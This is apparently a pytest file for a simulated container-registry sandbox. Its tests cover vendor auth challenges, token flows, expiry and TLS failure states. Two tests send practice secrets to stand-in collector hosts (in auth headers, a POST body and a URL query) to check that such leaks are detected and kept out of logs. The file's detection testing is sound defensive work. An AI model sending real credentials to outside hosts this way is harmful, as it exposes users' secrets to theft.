"""The practice registries answer as the real ones do: what every other test here builds on."""

from __future__ import annotations

import base64
import hashlib
import json
import time
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta

import httpx
import jwt
import pytest

from bot.core.check import Cause
from bot.core.clock import FixedClock
from bot.errors import EgressError
from bot.kinds.net import Address, AllowList, Egress
from bot.sandbox.practice.practice import Practice
from bot.sandbox.practice.shapes import service_account
from bot.sandbox.practice.shelf import OCI_INDEX, OCI_MANIFEST
from bot.sandbox.practice.states import State

NOON = datetime(2026, 11, 24, 12, tzinfo=UTC)


class Bench:
    """A practice with a client of its own."""

    def __init__(self, practice: Practice, clock: FixedClock) -> None:
        self.practice = practice
        self.clock = clock
        self.egress = Egress(
            allow=AllowList(), ca_file=practice.ca_file, resolver=practice.resolver
        )

    async def get(
        self, url: str, login: tuple[str, str] | None = None, bearer: str = "", **headers: str
    ) -> httpx.Response:
        if login:
            pair = base64.b64encode(":".join(login).encode()).decode()
            headers["Authorization"] = f"Basic {pair}"
        if bearer:
            headers["Authorization"] = f"Bearer {bearer}"
        return await self.egress.send(
            "GET", url, {k.replace("_", "-"): v for k, v in headers.items()}
        )

    async def post(self, url: str, content: bytes) -> httpx.Response:
        return await self.egress.send("POST", url, {}, content)


@pytest.fixture
async def bench() -> AsyncIterator[Bench]:
    clock = FixedClock(NOON)
    practice = await Practice.start(clock=clock)
    bench = Bench(practice, clock)
    yield bench
    await bench.egress.close()
    await practice.close()


@pytest.mark.parametrize(
    ("host", "challenge"),
    [
        (
            "registry-1.docker.io",
            'Bearer realm="https://auth.docker.io/token",service="registry.docker.io"',
        ),
        (
            "ghcr.io",
            'Bearer realm="https://ghcr.io/token",service="ghcr.io",scope="repository:user/image:pull"',
        ),
        (
            "containers.other.ghe.com",
            'Bearer realm="https://containers.other.ghe.com/token",service="containers.other.ghe.com",scope="repository:user/image:pull"',
        ),
        (
            "registry.gitlab.com",
            'Bearer realm="https://gitlab.com/jwt/auth",service="container_registry"',
        ),
        (
            "registry.gitlab.practice.example",
            'Bearer realm="https://gitlab.practice.example/jwt/auth",service="container_registry"',
        ),
        (
            "rg.nl-ams.scw.cloud",
            'Bearer realm="https://api.scaleway.com/registry-internal/v1/regions/nl-ams/tokens",service="registry"',
        ),
        (
            "us-docker.pkg.dev",
            'Bearer realm="https://us-docker.pkg.dev/v2/token",service="us-docker.pkg.dev"',
        ),
        (
            "210987654321.dkr.ecr.us-east-2.amazonaws.com",
            'Basic realm="https://210987654321.dkr.ecr.us-east-2.amazonaws.com/",service="ecr.amazonaws.com"',
        ),
        (
            "public.ecr.aws",
            'Bearer realm="https://public.ecr.aws/token/",service="public.ecr.aws",scope="aws"',
        ),
        ("registry.practice.example", 'Basic realm="Practice registry, with a comma"'),
        (
            "harbor.practice.example",
            'Bearer realm="https://harbor.practice.example/service/token",service="harbor-registry"',
        ),
        (
            "quay.practice.example",
            'Bearer realm="https://quay.practice.example/v2/auth",service="quay.practice.example"',
        ),
        (
            "acmepractice.azurecr.io",
            'Bearer realm="https://acmepractice.azurecr.io/oauth2/token",service="acmepractice.azurecr.io"',
        ),
    ],
)
async def test_ping_is_answered_with_the_vendors_challenge(
    bench: Bench, host: str, challenge: str
) -> None:
    """Each host asks to sign in with the words of the real one, over TLS under its own name."""
    answer = await bench.get(f"https://{host}/v2/")

    assert answer.status_code == 401
    assert answer.headers["www-authenticate"] == challenge


async def test_private_image_is_served_to_its_member_only(bench: Bench) -> None:
    """The whole token flow of Docker Hub, with a manifest whose digest is that of its bytes."""
    hub = bench.practice.docker_hub
    ask = "https://auth.docker.io/token?service=registry.docker.io&scope=repository:team/app:pull"
    image = "https://registry-1.docker.io/v2/team/app/manifests/1.2"
    member = (await bench.get(ask, (hub.username, hub.token))).json()["token"]
    nobody = (await bench.get(ask)).json()["token"]

    served = await bench.get(image, bearer=member, Accept=OCI_MANIFEST)
    denied = await bench.get(image, bearer=nobody, Accept=OCI_MANIFEST)

    assert (
        served.headers["docker-content-digest"]
        == f"sha256:{hashlib.sha256(served.content).hexdigest()}"
    )
    assert denied.status_code == 401
    assert 'error="insufficient_scope"' in denied.headers["www-authenticate"]


async def test_every_blob_of_the_image_can_be_pulled(bench: Bench) -> None:
    """Config and layers are there under the digests that the manifest names."""
    generic = bench.practice.generic
    login = (generic.username, generic.password)
    base = "https://registry.practice.example/v2/team/app"
    manifest = (await bench.get(f"{base}/manifests/1.2", login, Accept=OCI_MANIFEST)).json()

    parts = [manifest["config"], *manifest["layers"]]
    blobs = [await bench.get(f"{base}/blobs/{part['digest']}", login) for part in parts]

    assert [hashlib.sha256(blob.content).hexdigest() for blob in blobs] == [
        part["digest"].removeprefix("sha256:") for part in parts
    ]


async def test_index_is_not_found_by_a_client_that_does_not_accept_it(bench: Bench) -> None:
    """Registries answer 404 for a multi-platform image to a client that names no index."""
    generic = bench.practice.generic
    login = (generic.username, generic.password)
    url = "https://registry.practice.example/v2/team/app/manifests/multi"

    assert (await bench.get(url, login, Accept=OCI_MANIFEST)).status_code == 404
    assert (await bench.get(url, login, Accept=OCI_INDEX)).status_code == 200


@pytest.mark.parametrize(
    ("url", "status"),
    [
        ("https://auth.docker.io/token?service=registry.docker.io", 401),
        ("https://ghcr.io/token?service=ghcr.io", 403),
        ("https://containers.acme.ghe.com/token?service=containers.acme.ghe.com", 403),
        ("https://gitlab.com/jwt/auth?service=container_registry", 401),
        (
            "https://api.scaleway.com/registry-internal/v1/regions/fr-par/tokens?service=registry",
            404,
        ),
        ("https://europe-west1-docker.pkg.dev/v2/token?service=europe-west1-docker.pkg.dev", 403),
        ("https://public.ecr.aws/token/?service=public.ecr.aws", 200),
        ("https://harbor.practice.example/service/token?service=harbor-registry", 401),
        ("https://quay.practice.example/v2/auth?service=quay.practice.example", 401),
        ("https://acmepractice.azurecr.io/oauth2/token?service=acmepractice.azurecr.io", 401),
    ],
)
async def test_wrong_credential_gets_the_vendors_own_answer(
    bench: Bench, url: str, status: int
) -> None:
    """Token services differ in how they treat a wrong credential, and so do these."""
    answer = await bench.get(url, ("somebody", "wrong-secret-of-nobody"))

    assert answer.status_code == status


async def test_harbor_gives_a_token_without_rights_to_a_wrong_secret(bench: Bench) -> None:
    """With a scope Harbor answers 200 to anyone; only the actions are missing."""
    url = "https://harbor.practice.example/service/token?service=harbor-registry&scope=repository:team/app:pull"

    answer = await bench.get(url, ("robot$team+ci", "wrong-secret-of-nobody"))

    claims = jwt.decode(answer.json()["token"], options={"verify_signature": False})
    assert (answer.status_code, claims["access"]) == (200, [])


async def test_google_verifies_the_signature(bench: Bench) -> None:
    """A JWT signed with another key of the same name is refused, the right one is exchanged."""
    account = bench.practice.google.account
    stranger = service_account(account.project)

    def assertion(text: str) -> bytes:
        key = json.loads(text)["private_key"]
        now = int(time.time())
        claims = {
            "iss": account.email,
            "aud": "https://oauth2.googleapis.com/token",
            "scope": "https://www.googleapis.com/auth/cloud-platform",
            "iat": now,
            "exp": now + 3600,
        }
        signed = jwt.encode(claims, key, algorithm="RS256", headers={"kid": account.key_id})
        grant = "urn:ietf:params:oauth:grant-type:jwt-bearer"
        return str(httpx.QueryParams({"grant_type": grant, "assertion": signed})).encode()

    url = "https://oauth2.googleapis.com/token"
    forged = await bench.post(url, assertion(stranger.text))
    right = await bench.post(url, assertion(account.text))

    assert forged.json()["error_description"] == "Invalid JWT Signature."
    assert right.json()["token_type"] == "Bearer"


async def test_credential_expires_by_itself(bench: Bench) -> None:
    """Days later the healthy token of GitHub has expired; setting it healthy renews it."""
    ghcr = bench.practice.ghcr
    url = "https://api.github.com/user"
    fresh = await bench.get(url, bearer=ghcr.token, User_Agent="test")
    bench.clock.skip(timedelta(days=61))
    stale = await bench.get(url, bearer=ghcr.token, User_Agent="test")
    shown = {registry.slug: registry.state for registry in bench.practice.registries}
    bench.practice.set_state("ghcr", "healthy")
    renewed = await bench.get(url, bearer=ghcr.token, User_Agent="test")

    assert [fresh.status_code, stale.status_code, renewed.status_code] == [200, 401, 200]
    assert (shown["ghcr"], shown["docker_hub"]) == ("expired", "healthy")
    assert fresh.headers["github-authentication-token-expiration"] == "2027-01-23 12:00:00 UTC"


@pytest.mark.parametrize(
    ("state", "cause"),
    [
        (State.TLS_EXPIRED, Cause.TLS_FAILURE),
        (State.TLS_WRONG_NAME, Cause.TLS_FAILURE),
        (State.TLS_UNKNOWN_ISSUER, Cause.TLS_FAILURE),
        (State.UNKNOWN_HOST, Cause.HOST_NOT_FOUND),
        (State.REFUSES_CONNECTION, Cause.CONNECT_FAILED),
    ],
)
async def test_state_is_seen_at_once_by_a_kept_connection(
    bench: Bench, state: State, cause: Cause
) -> None:
    """A connection that was open before the switch does not hide the new state."""
    await bench.get("https://ghcr.io/v2/")
    bench.practice.set_state("ghcr", state)

    with pytest.raises(EgressError) as caught:
        await bench.get("https://ghcr.io/v2/")

    assert caught.value.cause is cause


async def test_stranger_who_gets_a_secret_is_noticed(bench: Bench) -> None:
    """What arrives at the collector is recorded by host and manner, without the secret itself."""
    await bench.get("https://tokens.collector.example/token", ("user", "a-secret-for-the-thief"))

    assert bench.practice.received == {("tokens.collector.example", "basic")}
    assert "a-secret-for-the-thief" not in repr(bench.practice.log)


async def test_secret_in_a_body_or_an_address_is_noticed(bench: Bench) -> None:
    """A practice secret is recognised wherever it stands."""
    token = bench.practice.gitlab.token

    await bench.post("https://landing.collector.example/in", token.encode())
    await bench.get(f"https://tokens.collector.example/x?password={token}")

    assert bench.practice.received == {
        ("landing.collector.example", "body"),
        ("tokens.collector.example", "address"),
    }


async def test_other_names_do_not_exist(bench: Bench) -> None:
    """In practice nothing leads to the real network."""
    with pytest.raises(EgressError) as caught:
        await bench.get("https://quay.io/v2/")

    assert caught.value.cause is Cause.HOST_NOT_FOUND


class Lookup:
    """A resolver that knows two names, one of them in a private network."""

    async def resolve(self, host: str, port: int) -> list[Address]:
        known = {"registry.corp.example": "10.1.2.3", "quay.io": "192.0.78.13"}
        return [Address(known[host], port)]


@pytest.mark.parametrize(
    ("allowed", "host", "ips"),
    [
        ("registry.corp.example", "registry.corp.example", ["10.1.2.3"]),
        ("10.0.0.0/8", "registry.corp.example", ["10.1.2.3"]),
        ("10.0.0.0/8", "quay.io", []),
    ],
)
async def test_allowed_hosts_are_looked_up(allowed: str, host: str, ips: list[str]) -> None:
    """The operator's own registries stay reachable beside the practice ones, the Internet does not."""
    practice = await Practice.start(fallback=Lookup(), allow=AllowList.parse(allowed))

    found = await practice.resolver.resolve(host, 443)

    await practice.close()
    assert [address.ip for address in found] == ips


async def test_unknown_state_is_refused(bench: Bench) -> None:
    """A registry cannot be put in a state that its make does not have."""
    with pytest.raises(ValueError, match="docker_hub cannot be sso_required"):
        bench.practice.set_state("docker_hub", "sso_required")


async def test_each_registry_shows_what_to_copy(bench: Bench) -> None:
    """Every registry offers at least eight states and the answers of its form."""
    shown = bench.practice.registries

    assert len(shown) == 9
    assert all(len(registry.states) >= 8 for registry in shown)
    assert all(registry.fields[0].label == "Registry URL" for registry in shown)
    assert all(any(field.secret for field in registry.fields) for registry in shown)
    assert all(len(field.value) <= 3000 for registry in shown for field in registry.fields)


async def test_credentials_differ_at_every_start(bench: Bench) -> None:
    """Nothing that looks like a real token is ever the same twice."""
    other = Practice(bench.clock, slow=0)

    for vendor in bench.practice.vendors.values():
        assert (
            not set(vendor.fields()[1:])
            & set(other.vendors[vendor.slug].fields())
            & {field for field in vendor.fields() if field.secret}
        )
